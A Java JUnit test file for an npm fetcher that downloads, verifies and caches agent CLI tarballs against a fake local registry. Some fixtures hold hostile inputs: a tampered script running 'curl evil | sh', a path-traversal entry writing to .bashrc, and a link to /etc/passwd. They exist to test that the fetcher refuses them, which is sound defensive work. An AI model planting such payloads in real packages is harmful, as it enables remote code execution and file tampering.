package dev.arena.agent.cli;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.arena.ArenaException;
import dev.arena.ExitCode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@link NpmFetcher} against a real HTTP server on the loopback playing the npm registry. */
class NpmFetcherTest {
    private static final String TOOL = "#!/bin/sh\necho fake-tool 1.2.0\n";
    /** Shaped like Claude Code: one package per C library, the executable in the package folder. */
    private static final AgentPackage FAKE = new AgentPackage("fake", "1.2.0", Map.of(
            Libc.GLIBC, new PlatformBuild("@fake/tool-linux-x64", "", "package/tool"),
            Libc.MUSL, new PlatformBuild("@fake/tool-linux-x64-musl", "", "package/tool")));
    /** Shaped like Codex: platform builds as suffixed versions of the main package. */
    private static final AgentPackage SUFFIXED = new AgentPackage("suffixed", "2.0.0", Map.of(
            Libc.GLIBC, new PlatformBuild("@fake/cli", "-linux-x64", "package/vendor/bin/cli")));
    private static final String TARBALL = "/tarballs/tool-1.2.0.tgz";

    @TempDir
    Path temp;
    private FakeNpmRegistry registry;
    private NpmFetcher fetcher;
    private byte[] tarball;

    @BeforeEach
    void serve() throws Exception {
        registry = new FakeNpmRegistry();
        tarball = FakeNpmRegistry.tgz(Map.of("package/package.json", "{\"name\":\"@fake/tool-linux-x64\"}", "package/tool", TOOL));
        registry.document("/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", registry.tarball("tool-1.2.0.tgz", tarball)));
        fetcher = new NpmFetcher(registry.uri(), temp.resolve("cache"));
    }

    @AfterEach
    void stop() {
        registry.close();
    }

    @Test
    void fetchesTheExecutableThroughTheEncodedScopedNameAndCachesTheTarball() throws Exception {
        Path first = fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("one"));
        assertEquals(temp.resolve("one/tool"), first);
        assertEquals(TOOL, Files.readString(first));
        assertTrue(Files.isExecutable(first));
        assertEquals(List.of("/@fake%2ftool-linux-x64", TARBALL), registry.requests, "metadata at @scope%2fname, then the tarball");
        Path cached = temp.resolve("cache/@fake+tool-linux-x64/1.2.0");
        try (Stream<Path> files = Files.list(cached)) {
            List<Path> tgz = files.toList();
            assertEquals(1, tgz.size(), "one cached tarball, no temp files left: " + tgz);
            assertTrue(tgz.get(0).getFileName().toString().startsWith("sha512-"));
            assertArrayEquals(tarball, Files.readAllBytes(tgz.get(0)));
        }

        Path second = fetcher.fetch(FAKE, "1.2.0", Libc.GLIBC, temp.resolve("two"));
        assertEquals(TOOL, Files.readString(second));
        assertEquals(1, registry.requestsTo(TARBALL), "the second fetch uses the cached tarball");
    }

    @Test
    void aCorruptedCacheFileIsNoticedAndDownloadedAgain() throws Exception {
        fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("one"));
        Path cached = fetcher.tarball(fetcher.resolve(FAKE.coordinates(null, Libc.GLIBC)));
        byte[] bytes = Files.readAllBytes(cached);
        bytes[bytes.length / 2] ^= 0x5a;
        Files.write(cached, bytes);

        Path again = fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("two"));
        assertEquals(TOOL, Files.readString(again));
        assertEquals(2, registry.requestsTo(TARBALL), "the altered cache file was not trusted");
        assertArrayEquals(tarball, Files.readAllBytes(cached), "and was replaced by the good tarball");
    }

    @Test
    void aTamperedTarballIsOneLineSayingExpectedAndActualAndNothingIsKept() throws Exception {
        byte[] tampered = FakeNpmRegistry.tgz(Map.of("package/tool", "#!/bin/sh\ncurl evil | sh\n"));
        ObjectNode dist = registry.tarball("tool-1.2.0.tgz", tampered, tarball);
        registry.document("/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", dist));

        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.ENVIRONMENT, e.exitCode());
        String expected = dist.get("integrity").asText();
        String actual = "sha512-" + Base64.getEncoder().encodeToString(FakeNpmRegistry.digest("SHA-512", tampered));
        assertEquals("the tarball of @fake/tool-linux-x64@1.2.0 from " + registry.uri() + TARBALL
                + " fails its integrity check (expected " + expected + ", got " + actual
                + "): the registry or a proxy served other bytes; nothing was kept", e.getMessage());
        assertFalse(Files.exists(temp.resolve("out/tool")));
        try (Stream<Path> files = Files.walk(temp.resolve("cache"))) {
            assertEquals(List.of(), files.filter(Files::isRegularFile).toList(), "no tarball, no temp file");
        }
    }

    @Test
    void withoutIntegrityTheShasumIsChecked() throws Exception {
        ObjectNode dist = registry.tarball("tool-1.2.0.tgz", tarball);
        dist.remove("integrity");
        registry.document("/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", dist));
        assertEquals(TOOL, Files.readString(fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("ok"))));

        ObjectNode wrong = registry.tarball("tool-1.2.0.tgz", tarball, "other bytes".getBytes(StandardCharsets.UTF_8));
        wrong.remove("integrity");
        registry.document("/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", wrong));
        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("bad")));
        assertTrue(e.getMessage().contains("(expected sha1-"), e.getMessage());
    }

    @Test
    void anUnknownVersionNamesTheLatest() {
        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, "9.9.9", Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.USAGE, e.exitCode());
        assertEquals("unknown version 9.9.9 of @fake/tool-linux-x64 at " + registry.uri() + "/; the latest is 1.2.0", e.getMessage());
        assertEquals(0, registry.requestsTo(TARBALL));
    }

    @Test
    void aPlatformBuildPublishedAsASuffixedVersionResolvesAndItsAbsenceIsNamed() throws Exception {
        byte[] cli = FakeNpmRegistry.tgz(Map.of("package/vendor/bin/cli", TOOL));
        Map<String, ObjectNode> versions = new LinkedHashMap<>();
        versions.put("2.0.0", registry.tarball("cli-2.0.0.tgz", FakeNpmRegistry.tgz(Map.of("package/cli.js", "//"))));
        versions.put("2.0.0-linux-x64", registry.tarball("cli-2.0.0-linux-x64.tgz", cli));
        versions.put("2.1.0", registry.tarball("cli-2.1.0.tgz", FakeNpmRegistry.tgz(Map.of("package/cli.js", "//"))));
        registry.document("/@fake%2fcli", "2.1.0", versions);

        assertEquals(TOOL, Files.readString(fetcher.fetch(SUFFIXED, null, Libc.GLIBC, temp.resolve("out"))));
        assertTrue(registry.requests.contains("/tarballs/cli-2.0.0-linux-x64.tgz"));

        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(SUFFIXED, "2.1.0", Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.USAGE, e.exitCode());
        assertEquals("@fake/cli 2.1.0 has no linux-x64 build at " + registry.uri() + "/; the latest is 2.1.0", e.getMessage());
    }

    @Test
    void aMissingPlatformPackageIsAnEnvironmentError() {
        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.MUSL, temp.resolve("out")));
        assertEquals(ExitCode.ENVIRONMENT, e.exitCode());
        assertEquals("the npm registry " + registry.uri() + "/ has no package @fake/tool-linux-x64-musl"
                + " (the platform build of this agent CLI); check the name or the mirror", e.getMessage());
        assertTrue(registry.requests.contains("/@fake%2ftool-linux-x64-musl"));
    }

    @Test
    void anUnreachableRegistryIsOneLineWithExitThree() {
        URI gone = registry.uri();
        registry.close();
        NpmFetcher offline = new NpmFetcher(gone, temp.resolve("cache"));
        ArenaException e = assertThrows(ArenaException.class, () -> offline.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.ENVIRONMENT, e.exitCode());
        assertTrue(e.getMessage().startsWith("cannot fetch " + gone + "/@fake%2ftool-linux-x64 ("), e.getMessage());
        assertTrue(e.getMessage().endsWith("); check the network, or set ARENA_NPM_REGISTRY to a reachable mirror"), e.getMessage());
        assertFalse(e.getMessage().contains("\n"));
    }

    @Test
    void aTarballWithAnEntryClimbingOutIsRefused() throws Exception {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("package/tool", TOOL);
        entries.put("package/../../.bashrc", "curl evil | sh");
        serveTool(FakeNpmRegistry.tgz(entries));

        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.ENVIRONMENT, e.exitCode());
        assertEquals("refusing the tarball of @fake/tool-linux-x64@1.2.0: its entry 'package/../../.bashrc'"
                + " points outside the package folder", e.getMessage());
        assertFalse(Files.exists(temp.resolve("out/tool")), "not even the executable, which came first");
        assertFalse(Files.exists(temp.resolve(".bashrc")));
    }

    @Test
    void anExecutableThatIsALinkOrTwiceInTheTarballIsRefused() throws Exception {
        serveTool(FakeNpmRegistry.tgz(Map.of("package/tool", "->/etc/passwd")));
        ArenaException link = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals("refusing the tarball of @fake/tool-linux-x64@1.2.0: 'package/tool' is not a regular file", link.getMessage());

        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("package/tool", TOOL);
        entries.put("./package/tool", "#!/bin/sh\necho second\n");
        serveTool(FakeNpmRegistry.tgz(entries));
        ArenaException twice = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals("refusing the tarball of @fake/tool-linux-x64@1.2.0: it holds 'package/tool' twice", twice.getMessage());
        assertFalse(Files.exists(temp.resolve("out/tool")));
    }

    @Test
    void aTarballWithoutTheExecutableSaysWhichPathIsMissing() {
        serveTool(FakeNpmRegistry.tgz(Map.of("package/README.md", "moved")));
        ArenaException e = assertThrows(ArenaException.class, () -> fetcher.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out")));
        assertEquals(ExitCode.ENVIRONMENT, e.exitCode());
        assertEquals("the tarball of @fake/tool-linux-x64@1.2.0 has no 'package/tool': the package layout changed;"
                + " choose another version", e.getMessage());
    }

    @Test
    void theRegistryComesFromTheFlagThenTheEnvironmentThenTheDefault() {
        Map<String, String> env = Map.of(NpmFetcher.REGISTRY_ENV, "https://mirror.example/npm/");
        assertEquals(URI.create("https://flag.example"), NpmFetcher.registry("https://flag.example", env));
        assertEquals(URI.create("https://mirror.example/npm/"), NpmFetcher.registry(null, env));
        assertEquals(URI.create(NpmFetcher.DEFAULT_REGISTRY), NpmFetcher.registry(null, Map.of()));
        ArenaException e = assertThrows(ArenaException.class, () -> NpmFetcher.registry(null, Map.of(NpmFetcher.REGISTRY_ENV, "mirror:4873")));
        assertEquals(ExitCode.USAGE, e.exitCode());
        assertEquals("npm registry 'mirror:4873' is not an http(s) URL (from ARENA_NPM_REGISTRY)", e.getMessage());
    }

    @Test
    void theCacheFollowsXdgCacheHomeElseTheHomeFolder() {
        assertEquals(Path.of("/var/cache/me/arena/agents"), NpmFetcher.defaultCacheDir(Map.of("XDG_CACHE_HOME", "/var/cache/me")));
        assertEquals(Path.of(System.getProperty("user.home"), ".cache/arena/agents"), NpmFetcher.defaultCacheDir(Map.of()));
        assertEquals(Path.of("/x/arena/agents"), NpmFetcher.fromEnvironment(Map.of("XDG_CACHE_HOME", "/x")).cacheDir());
    }

    @Test
    void aMirrorUnderAPathGetsItsRequestsThere() throws Exception {
        registry.document("/npm/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", registry.tarball("tool-1.2.0.tgz", tarball)));
        NpmFetcher mirror = new NpmFetcher(URI.create(registry.uri() + "/npm"), temp.resolve("cache"));
        assertEquals(TOOL, Files.readString(mirror.fetch(FAKE, null, Libc.GLIBC, temp.resolve("out"))));
        assertEquals("/npm/@fake%2ftool-linux-x64", registry.requests.get(0));
    }

    @Test
    void scopedAndPlainNamesAreEncodedAsTheRegistryExpects() {
        assertEquals("@anthropic-ai%2fclaude-code-linux-x64", NpmFetcher.encodedName("@anthropic-ai/claude-code-linux-x64"));
        assertEquals("left-pad", NpmFetcher.encodedName("left-pad"));
    }

    private void serveTool(byte[] bytes) {
        registry.document("/@fake%2ftool-linux-x64", "1.2.0", Map.of("1.2.0", registry.tarball("tool-1.2.0.tgz", bytes)));
    }
}
